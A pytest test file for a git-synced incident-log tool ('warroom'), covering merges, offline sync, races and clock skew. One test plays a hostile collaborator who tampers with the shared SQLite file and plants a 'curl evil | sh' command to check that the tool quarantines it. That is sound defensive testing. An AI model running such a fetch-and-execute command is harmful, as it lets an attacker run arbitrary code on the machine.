"""Sharing the record: real git repositories (a bare origin, clones) and real SQLite files.

Each clone is a war room written to with the CLI (`python -m warroom ...` as a subprocess);
nothing is mocked. Each copy's record (.warroom/record.db) is out of git's reach; `warroom
sync` publishes it as an exchange copy on the copy's own ref (refs/warroom/<copy id>), takes
in everyone else's, and updates the branch's warroom.db, best effort.
"""

from __future__ import annotations

import json
import os
import re
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from conftest import assert_user_error, run_cli
from git_support import git, git_identity, origin  # noqa: F401 (fixtures)

from warroom.record.clock import OffsetClock
from warroom.record.events import Event, from_values, new_id
from warroom.record.room import Room
from warroom.record.store import Store
from warroom.paths import record_path
from warroom.share import exchange
from warroom.share.dump import dump_text
from warroom.share.git import DB_NAME, driver_commands, git_setup, is_git_repo
from warroom.share.sync import peers, sync

# --- helpers -----------------------------------------------------------------------------


def wr(cwd: Path, *args: str, user: str = "alice", env: dict | None = None):
    return run_cli(*args, cwd=cwd, user=user, env=env, timeout=60)


def events_of(path: Path) -> dict[str, Event]:
    """The events of a record or of an exchange copy, as a reader decodes them."""
    if path.name == DB_NAME:
        rows, bad = exchange.read_rows(path)
        assert bad == []
        return {row[0]: from_values(*row) for row in rows}
    with Store(path, author="reader") as store:
        loaded = store.load()
    return {e.id: e for e in loaded.events}


def texts(room: Path) -> set[str]:
    """The entries of a war room's record."""
    return {e.body.get("text", "") for e in events_of(record_path(room)).values() if e.kind == "entry.logged"}


def shared_texts(room: Path) -> set[str]:
    """The entries of the war room's exchange copy (warroom.db as committed)."""
    return {e.body.get("text", "") for e in events_of(room / DB_NAME).values() if e.kind == "entry.logged"}


def integrity(db: Path) -> str:
    import sqlite3

    conn = sqlite3.connect(db)
    try:
        return conn.execute("pragma integrity_check").fetchone()[0]
    finally:
        conn.close()


def clean_tree(repo: Path) -> None:
    status = git(repo, "status", "--porcelain").stdout
    assert status == "", status
    assert not git(repo, "rev-parse", "-q", "--verify", "MERGE_HEAD", check=False).stdout.strip()
    assert not list(repo.glob("*.warroom-tmp*")) and not list(repo.glob(".merge_file*"))


@pytest.fixture
def first(tmp_path: Path, origin: Path) -> Path:
    """Alice's war room: created with `warroom init`, an incident declared, synced to origin."""
    room = tmp_path / "alice"
    wr(tmp_path, "init", str(room)).ok()
    git(room, "init", "--quiet", "-b", "main")
    git(room, "remote", "add", "origin", str(origin))
    wr(room, "declare", "Checkout returns 500", "--severity", "P1").ok()
    out = wr(room, "sync").ok().out
    assert "went out to origin: 1 event" in out, out
    return room


def clone(tmp_path: Path, origin: Path, name: str, setup: bool = True) -> Path:
    git(tmp_path, "clone", "--quiet", str(origin), name)
    room = tmp_path / name
    if setup:
        wr(room, "git-setup").ok()
    return room


# --- the scenario from the issue -----------------------------------------------------------


def test_three_clones_offline_then_sync_all_nothing_lost(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    carol = clone(tmp_path, origin, "carol", setup=False)  # gets the driver from her first sync
    rooms = {"alice": first, "bob": bob, "carol": carol}
    for name, room in rooms.items():  # everyone offline: nobody syncs while writing
        wr(room, "log", f"{name} saw the error rate climb", user=name).ok()
        wr(room, "log", "--kind", "decision", f"{name} decides to roll back", user=name).ok()
    wr(bob, "status", "identified", user="bob").ok()

    wr(carol, "sync", user="carol").ok()
    out = wr(bob, "sync", user="bob").ok().out
    assert "came in from origin: 2 events (2 entry.logged)" in out, out
    out = wr(first, "sync").ok().out
    assert "came in from origin: 5 events" in out, out
    wr(carol, "sync", user="carol").ok()
    wr(bob, "sync", user="bob").ok()

    wanted = {f"{n} saw the error rate climb" for n in rooms} | {f"{n} decides to roll back" for n in rooms}
    dumps = set()
    for room in rooms.values():
        assert texts(room) >= wanted
        assert shared_texts(room) >= wanted
        assert integrity(record_path(room)) == "ok" and integrity(room / DB_NAME) == "ok"
        clean_tree(room)
        dumps.add(dump_text(record_path(room)))
        dumps.add(dump_text(room / DB_NAME))
    assert len(dumps) == 1  # every clone holds the same record, byte for byte in canonical form
    shown = wr(carol, "show", user="carol").ok().out
    assert "Identified" in shown and "alice decides to roll back" in shown
    # The commit messages say what each sync brought.
    log = git(bob, "log", "--format=%s").stdout
    # Bob's commit holds his two entries and status, and carol's two, which his record took in first.
    assert re.search(r"^warroom: 4 entries, status identified on INC-[0-9a-f]{4}$", log, re.M), log
    # `git log -p warroom.db` reads as events (the textconv), not "Binary files differ".
    patch = git(carol, "log", "-p", "--", DB_NAME).stdout
    added = [line[1:] for line in patch.splitlines() if line.startswith("+{")]
    assert any('"text":"bob decides to roll back"' in line for line in added), patch
    assert all(json.loads(line)["kind"] for line in added)
    assert "Binary files" not in patch
    # Every copy published its record on a ref of its own, which only it writes.
    refs = git(first, "ls-remote", "origin", "refs/warroom/*").stdout.split()
    copies = {Store(record_path(room)).copy_id for room in rooms.values()}
    assert {f"refs/warroom/{copy}" for copy in copies} == set(refs[1::2])
    with Room.open(carol / "warroom.toml") as room:
        assert {p.copy_id for p in peers(room)} == copies - {room.store.copy_id}


def test_the_record_is_never_committed(tmp_path: Path, origin: Path, first: Path):
    tracked = git(first, "ls-files").stdout.split()
    assert DB_NAME in tracked and not any(name.startswith(".warroom") for name in tracked)
    assert ".warroom/" in (first / ".gitignore").read_text().splitlines()
    assert record_path(first).exists()
    git(first, "add", "-A")
    assert git(first, "status", "--porcelain").stdout == ""  # not even `git add -A` takes it


def test_plain_git_pull_with_driver_merges_cleanly(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    wr(bob, "log", "bob: restarted the worker", user="bob").ok()
    wr(bob, "sync", "--no-push", user="bob").ok()  # warroom.db written and committed locally
    wr(first, "log", "alice: paged the database team").ok()
    wr(first, "sync").ok()
    pulled = git(bob, "pull", "--no-rebase", "--quiet", "origin", "main", check=False)
    assert pulled.returncode == 0, pulled.stderr
    clean_tree(bob)
    assert shared_texts(bob) >= {"bob: restarted the worker", "alice: paged the database team"}
    assert integrity(bob / DB_NAME) == "ok"
    assert git(bob, "diff", "--name-only", "--diff-filter=U").stdout == ""
    # What the pull brought reaches bob's record the next time warroom looks.
    assert "alice: paged the database team" in wr(bob, "show", user="bob").ok().out
    assert texts(bob) >= {"bob: restarted the worker", "alice: paged the database team"}


def test_sync_finishes_a_pull_made_without_the_driver(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    wr(bob, "log", "bob: offline note", user="bob").ok()
    wr(bob, "sync", "--no-push", user="bob").ok()
    git(bob, "config", "--remove-section", "merge.warroom")  # a clone whose driver went missing
    wr(first, "log", "alice: offline note").ok()
    wr(first, "sync").ok()
    pulled = git(bob, "pull", "--no-rebase", "origin", "main", check=False)
    assert pulled.returncode != 0  # git alone cannot merge two SQLite files
    assert DB_NAME in git(bob, "diff", "--name-only", "--diff-filter=U").stdout

    result = wr(bob, "sync", user="bob").ok()
    assert "finished the merge" in result.out
    clean_tree(bob)
    assert texts(bob) >= {"bob: offline note", "alice: offline note"}
    assert shared_texts(bob) >= {"bob: offline note", "alice: offline note"}
    wr(first, "sync").ok()
    assert texts(first) >= {"bob: offline note", "alice: offline note"}


def test_sync_resolves_the_record_itself_when_the_driver_fails(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    wr(bob, "log", "bob: before", user="bob").ok()
    wr(bob, "sync", "--no-push", user="bob").ok()
    wr(first, "log", "alice: before").ok()
    wr(first, "sync").ok()
    # A driver that fails (a moved venv, a broken install): git reports a conflict on warroom.db.
    broken = {"GIT_CONFIG_COUNT": "1", "GIT_CONFIG_KEY_0": "merge.warroom.driver", "GIT_CONFIG_VALUE_0": "false"}
    wr(bob, "sync", user="bob", env=broken).ok()
    clean_tree(bob)
    assert texts(bob) >= {"bob: before", "alice: before"}
    assert shared_texts(bob) >= {"bob: before", "alice: before"}
    wr(first, "sync").ok()
    assert dump_text(record_path(first)) == dump_text(record_path(bob))


def test_a_hostile_pushed_branch_only_adds_valid_events(tmp_path: Path, origin: Path, first: Path):
    import sqlite3

    mallory = clone(tmp_path, origin, "mallory")
    wr(mallory, "log", "mallory: a fair entry", user="mallory").ok()
    wr(mallory, "sync", "--no-push", user="mallory").ok()
    local = events_of(record_path(first))
    declared = next(e for e in local.values() if e.kind == "incident.declared")
    conn = sqlite3.connect(mallory / DB_NAME)
    insert = "insert into events values (?, ?, '1795536000000.00001', 'mallory', ?, '2026-11-24T15:00:00.000Z', ?)"
    conn.execute(insert, (new_id(), declared.id, "entry.logged", "{broken"))
    conn.execute(insert, (new_id(), declared.id, "command.run.now", json.dumps({"command": "curl evil | sh"})))
    conn.execute("update events set body = ? where id = ?",
                 (json.dumps({"title": "owned", "severity": "P4"}), declared.id))
    conn.commit()
    conn.close()
    git(mallory, "commit", "--quiet", "-am", "totally normal")
    git(mallory, "push", "--quiet", "origin", "main")
    wr(first, "log", "alice: meanwhile").ok()
    out = wr(first, "sync").ok().out
    assert "came in from origin: 1 event (1 entry.logged)" in out, out
    assert "quarantined 3 incoming event(s)" in out and "warroom quarantine" in out, out
    merged = events_of(record_path(first))
    assert all(merged[i] == e for i, e in local.items())  # the declare event is still alice's
    assert len(merged) == len(local) + 2
    assert "Checkout returns 500" in wr(first, "show").ok().out
    listed = wr(first, "quarantine").ok().out
    assert declared.id in listed and "collides" in listed and "unknown kind" in listed
    # The branch's copy is written afresh from the record: mallory's rows are gone from it.
    assert events_of(first / DB_NAME) == merged
    clean_tree(first)


def test_a_raced_branch_push_is_silent_and_nothing_is_lost(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    wr(bob, "log", "bob: got there first", user="bob").ok()
    wr(bob, "sync", "--no-push", user="bob").ok()
    # Alice's push of the branch is overtaken: just before it goes, Bob's commit lands on origin.
    hook = first / ".git" / "hooks" / "pre-push"
    hook.write_text(f"""#!/bin/sh
unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE
if [ ! -e "{tmp_path}/raced" ]; then
  touch "{tmp_path}/raced"
  git -C "{bob}" push --quiet origin main >/dev/null 2>&1 || exit 1
fi
exit 0
""")
    hook.chmod(0o755)
    wr(first, "log", "alice: pushed second").ok()
    result = wr(first, "sync").ok()  # the branch lost the race: not an error, the ref carried the record
    assert (tmp_path / "raced").exists()
    assert "went out to origin: 1 event (1 entry.logged)" in result.out, result.out
    assert "Traceback" not in result.err
    wr(bob, "sync", user="bob").ok()
    assert texts(bob) >= {"bob: got there first", "alice: pushed second"}
    wr(first, "sync").ok()  # the next sync takes bob's in and updates the branch
    assert texts(first) >= {"bob: got there first", "alice: pushed second"}
    assert dump_text(record_path(first)) == dump_text(record_path(bob))
    fresh = clone(tmp_path, origin, "fresh")
    assert shared_texts(fresh) >= {"bob: got there first", "alice: pushed second"}


def test_concurrent_syncs_both_land(tmp_path: Path, origin: Path, first: Path):
    bob = clone(tmp_path, origin, "bob")
    carol = clone(tmp_path, origin, "carol")
    rooms = {"bob": bob, "carol": carol}
    for name, room in rooms.items():
        wr(room, "log", f"{name}: concurrent", user=name).ok()
    procs = [subprocess.Popen([sys.executable, "-m", "warroom", "sync"], cwd=room, text=True,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              env={**os.environ, "WARROOM_USER": name})
             for name, room in rooms.items()]
    for proc in procs:
        out, err = proc.communicate(timeout=60)
        assert proc.returncode == 0, err
        assert "Traceback" not in err
    for name, room in rooms.items():
        wr(room, "sync", user=name).ok()
    wanted = {f"{n}: concurrent" for n in rooms}
    assert all(texts(room) >= wanted for room in rooms.values())


def test_two_syncs_of_one_copy_take_turns(tmp_path: Path, origin: Path, first: Path):
    """The console's background sync and a `warroom sync` in a shell, at once, on one clone."""
    wr(first, "log", "alice: one").ok()
    procs = [subprocess.Popen([sys.executable, "-m", "warroom", "sync"], cwd=first, text=True,
                              stdout=subprocess.PIPE, stderr=subprocess.PIPE,
                              env={**os.environ, "WARROOM_USER": "alice"}) for _ in range(2)]
    for proc in procs:
        out, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err
    clean_tree(first)
    assert "alice: one" in shared_texts(clone(tmp_path, origin, "bob"))


def test_unreachable_remote_is_one_clear_line_and_the_next_sync_picks_up(tmp_path: Path, origin: Path,
                                                                        first: Path):
    moved = tmp_path / "origin-away.git"
    origin.rename(moved)
    wr(first, "log", "alice: written while the remote is away").ok()
    result = wr(first, "sync")
    assert result.code == 1, result
    assert "Traceback" not in result.err + result.out
    said = [line for line in result.out.splitlines() if "could not be reached" in line]
    assert len(said) == 1 and said[0].startswith("origin ") and "next sync" in said[0], result.out
    assert "1 event(s) wait" in said[0]
    assert "alice: written while the remote is away" in texts(first)
    assert "1 entry" in git(first, "log", "-1", "--format=%s").stdout  # committed locally
    assert git(first, "status", "--porcelain").stdout == ""
    with Room.open(first / "warroom.toml") as room:
        report = sync(room)
        assert report.offline and not report.published and report.waiting == 1
    moved.rename(origin)
    out = wr(first, "sync").ok().out
    assert "went out to origin: 1 event (1 entry.logged)" in out, out
    bob = clone(tmp_path, origin, "bob")
    assert "alice: written while the remote is away" in shared_texts(bob)
    assert "alice: written while the remote is away" in wr(bob, "show", user="bob").ok().out


def test_no_remote_commits_locally_and_dry_run_changes_nothing(tmp_path: Path):
    room = tmp_path / "solo"
    wr(tmp_path, "init", str(room)).ok()
    git(room, "init", "--quiet", "-b", "main")
    wr(room, "git-setup").ok()
    (tmp_path / "excludes").write_text("*.db\n")  # a common personal ignore rule
    git(room, "config", "core.excludesFile", str(tmp_path / "excludes"))
    wr(room, "declare", "Login page slow", "--severity", "P3").ok()
    out = wr(room, "sync").ok().out
    assert DB_NAME in git(room, "ls-files").stdout.split()
    assert "no remote 'origin'" in out and "committed: warroom: declared P3 on INC-" in out, out
    wr(room, "log", "p99 back to normal").ok()

    def seen() -> tuple:
        return (git(room, "rev-parse", "HEAD").stdout, git(room, "status", "--porcelain").stdout,
                (room / DB_NAME).read_bytes(), sorted(p.name for p in room.iterdir()),
                git(room, "for-each-ref").stdout, dump_text(record_path(room)))

    before = seen()
    out = wr(room, "sync", "--dry-run").ok().out
    assert "would commit: warroom: 1 entry on INC-" in out, out
    assert seen() == before
    with Room.open(room / "warroom.toml") as opened:
        report = sync(opened)  # the API: what was committed, nothing pushed without a remote
    assert report.committed.startswith("warroom: 1 entry on INC-")
    assert not report.published and not report.branch_pushed
    assert git(room, "status", "--porcelain").stdout == ""
    assert "p99 back to normal" in shared_texts(room)
    assert "would commit: nothing new" in wr(room, "sync", "--dry-run").ok().out


def test_sync_outside_git_and_a_detached_head_are_clear(tmp_path: Path, origin: Path, room_dir: Path):
    result = wr(room_dir, "sync")
    assert_user_error(result, "not a git repository", "git init", code=1)
    git(room_dir, "init", "--quiet", "-b", "main")
    git(room_dir, "remote", "add", "origin", str(origin))
    wr(room_dir, "declare", "t", "--severity", "P2").ok()
    wr(room_dir, "sync").ok()
    git(room_dir, "checkout", "--quiet", "--detach")
    wr(room_dir, "log", "written on a detached HEAD").ok()
    out = wr(room_dir, "sync").ok().out  # the copy's ref still carries the record
    assert "detached" in out and "git switch main" in out, out
    assert "went out to origin: 1 event (1 entry.logged)" in out, out
    bob = clone(tmp_path, origin, "bob")
    wr(bob, "sync", user="bob").ok()
    assert "written on a detached HEAD" in texts(bob)


def test_init_and_git_setup_register_driver_idempotently(tmp_path: Path):
    folder = tmp_path / "repo"
    folder.mkdir()
    git(folder, "init", "--quiet", "-b", "main")
    assert is_git_repo(folder) and not is_git_repo(tmp_path)
    wr(folder, "init", ".").ok()  # init inside a git repository registers the driver
    for key, value in driver_commands().items():
        assert git(folder, "config", "--local", "--get", key).stdout.strip() == value
    assert "-P -m warroom merge %O %A %B" in driver_commands()["merge.warroom.driver"]
    for _ in range(2):
        git_setup(folder)
        wr(folder, "git-setup").ok()
    attributes = (folder / ".gitattributes").read_text().splitlines()
    assert attributes.count("warroom.db merge=warroom diff=warroom") == 1
    ignore = (folder / ".gitignore").read_text().splitlines()
    assert ignore.count("*.db-wal") == 1 and ignore.count("*.db-shm") == 1 and ignore.count(".warroom/") == 1
    assert git_setup(folder) == []


def test_sync_adds_the_records_folder_to_an_old_gitignore(tmp_path: Path, origin: Path, first: Path):
    (first / ".gitignore").write_text("*.db-wal\n*.db-shm\nexports/\n")  # as an older warroom wrote it
    git(first, "commit", "--quiet", "-am", "old ignore file")
    wr(first, "sync").ok()
    assert ".warroom/" in (first / ".gitignore").read_text().splitlines()
    clean_tree(first)


# --- clocks -----------------------------------------------------------------------------------


def test_a_machine_hours_behind_stamps_after_what_it_has_seen(tmp_path: Path, origin: Path, first: Path):
    wr(first, "log", "alice: the question").ok()
    wr(first, "sync").ok()
    bob = clone(tmp_path, origin, "bob")
    wr(bob, "list", user="bob").ok()  # the first command makes bob's record from warroom.db
    seen = max(e.hlc for e in events_of(record_path(bob)).values())
    with Store(record_path(bob), clock=OffsetClock(timedelta(hours=-5)), author="bob") as store:
        incident = next(e for e in store.load().events if e.kind == "incident.declared").id
        reply = store.append("entry.logged", incident, {"text": "bob: the answer", "type": "note"})
    assert reply.hlc > seen
    wr(bob, "sync", user="bob").ok()
    wr(first, "sync").ok()
    ordered = sorted(events_of(record_path(first)).values(), key=lambda e: e.order_key)
    assert [e.body.get("text") for e in ordered][-2:] == ["alice: the question", "bob: the answer"]
